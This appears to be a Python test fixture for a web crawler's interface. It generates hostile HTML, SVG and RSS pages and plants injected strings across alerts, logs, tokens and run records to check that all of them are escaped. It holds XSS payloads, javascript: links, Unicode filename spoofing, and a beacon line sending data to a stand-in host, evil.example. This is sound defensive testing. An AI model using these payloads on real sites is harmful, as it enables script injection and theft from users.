"""Pages that try everything on whoever looks at them later."""

from __future__ import annotations

import json
from contextlib import closing
from html import escape
from pathlib import Path
from urllib.parse import quote

from evercrawl.cluster.run_requests import request_visits
from evercrawl.collection.alerts.alert_outbox import AlertOutbox, LogPosition, MatchedEvent
from evercrawl.collection.change_inbox import ChangeInbox
from evercrawl.collection.runs import RUNS_FILE
from evercrawl.core.alerts.delivery import MessageState
from evercrawl.core.sitemap.websub_protocol import Subscription, SubscriptionPhase, write_subscription
from evercrawl.model.alerts import Event, EventKind
from evercrawl.web.auth import AccessScope, AuthStore

SITE = "https://harbour.example"
SCRIPT = "<script>window.pwned = 1; new Image().src = 'https://evil.example/stolen'</script>"
ONERROR = '<img src=x onerror="window.pwned = 2">'
REVERSED = "\u202egnp.exe\u202c"
TITLE = f"{SCRIPT}{ONERROR}\"'>{REVERSED}"
LITERAL = f"Attack: {SCRIPT} and {ONERROR} and {{{{ 7 * 7 }}}} and {REVERSED}"


def _markup(day: int) -> str:
    """Markup that acts, for replay, and text that looks like markup, for every page of the interface."""
    edition = day // 2
    return (
        f"<!doctype html><html lang=en><head><title>{escape(TITLE)} {edition}</title><base href='https://evil.example/'>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>"
        "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>"
        "<link rel=stylesheet href='https://evil.example/style.css'>"
        "<style>@import 'https://evil.example/import.css'; "
        "body { background: url(https://evil.example/bg.png) }</style>"
        f'{SCRIPT}</head><body onload="window.pwned = 3"><main><h1>{escape(TITLE)}</h1>'
        f"<p>{escape(LITERAL)} in edition {edition}, which says something else about the harbour.</p>"
        f"<p>Calm words that stay, so that there is a text to compare with. {escape(ONERROR)}</p>"
        "<svg onload='window.pwned = 4'><a xlink:href='javascript:window.pwned = 5'><text y=20>svg</text></a>"
        "<script>window.pwned = 6</script><image href='https://evil.example/svg.png'/></svg>"
        "<a href='javascript:window.pwned = 7' id=js>click</a> "
        "<a href='data:text/html,<script>window.pwned = 8</script>'>data</a>"
        "<a href='https://harbour.example/page/2' ping='//evil.example/ping' target=_top id=inside>in</a>"
        "<a href='https://evil.example/away' id=away>away</a>"
        "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2x.png 2x'>"
        "<iframe src='https://evil.example/frame' srcdoc='<script>parent.pwned = 9</script>'></iframe>"
        "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>"
        "<form action='https://evil.example/form'>"
        "<button id=send formaction='javascript:window.pwned = 10'>send</button></form>"
        "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png' autoplay></video>"
        "</main></body></html>"
    )


def _svg(day: int) -> str:
    """A picture that is a document with a script in it."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 13">'
        f"<title>{escape(TITLE)}</title><script>window.pwned = 14</script>"
        '<image href="https://evil.example/in-svg.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="x" onerror="window.pwned = 15"/></body></foreignObject><text>{day // 2}</text></svg>'
    )


def _feed(day: int) -> str:
    """News whose titles are markup and whose links are scripts."""
    items = "".join(
        f"<item><title><![CDATA[{SCRIPT}{n}]]></title><link>javascript:window.pwned={n}</link>"
        f"<description>{escape(ONERROR)} of day {day // 2}</description></item>"
        for n in range(3)
    )
    return f'<rss version="2.0"><channel><title>{escape(TITLE)}</title>{items}</channel></rss>'


PAGES = {
    f"{SITE}/hostile": _markup,
    f"{SITE}/h?q=%3Cscript%3Ewindow.pwned=11%3C/script%3E&x='%22onmouseover=%22alert(1)": _markup,
    f"{SITE}/%E2%80%AEgpj.exe": _markup,
    f"{SITE}/files/%22%3E%3Cimg%20src=x%20onerror=window.pwned=12%3E.pdf": _markup,
    f"{SITE}/logo.svg": _svg,
    f"{SITE}/news.xml": _feed,
}

TRICKS = (SCRIPT, ONERROR, f"\"'><svg onload=window.pwned=20>{REVERSED}", "javascript:window.pwned=21")
"""What somebody may type, or a program may tell us, where a page shows it."""


def haunt(collection: Path) -> None:
    """Put tricks where other programs and people leave their words: hubs, announcements, logs, the book."""
    words = " ".join(TRICKS)
    request_visits(collection, [*PAGES, "javascript:window.pwned=22"], by=words)
    with closing(AlertOutbox(collection)) as outbox:
        topic = f"{SITE}/news.xml?{quote(words)}"
        told = Subscription("token", topic, words, None, SubscriptionPhase.DENIED, detail=words)
        outbox.put_subscription("token", told.topic, write_subscription(told))
        (alert,) = outbox.alerts()
        event = Event(0, 1, 1, next(iter(PAGES)), EventKind.CONTENT, 1.0, 1, 1, TITLE)
        outbox.add_events(
            0,
            before=outbox.cursors().get(0, LogPosition()),
            after=LogPosition(10**9),
            matched=[MatchedEvent(alert.id, event)],
            now_us=1,
        )
        message = outbox.compose(alert, upto_us=1, now_us=1)
        assert message is not None
        outbox.update_message(message._replace(state=MessageState.FAILED, tries=3, ended_us=2, detail=words))
    ChangeInbox(collection).review([], who=words, text=words, now_us=1)
    ChangeInbox(collection).mute(f"{SITE}/?{quote(words)}", words, who=words, now_us=1)
    with closing(AuthStore(collection)) as auth:
        auth.log_change(words, words, words)
        auth.add_token(words, AccessScope.READ)
    runs = collection / RUNS_FILE
    first, *others = runs.read_text().splitlines()
    run = json.loads(first)
    run["summary"] |= {"first_error": words, "closed_note": words, "skipped_by": {words: 1}}
    runs.write_text("\n".join([json.dumps(run), *others]) + "\n")
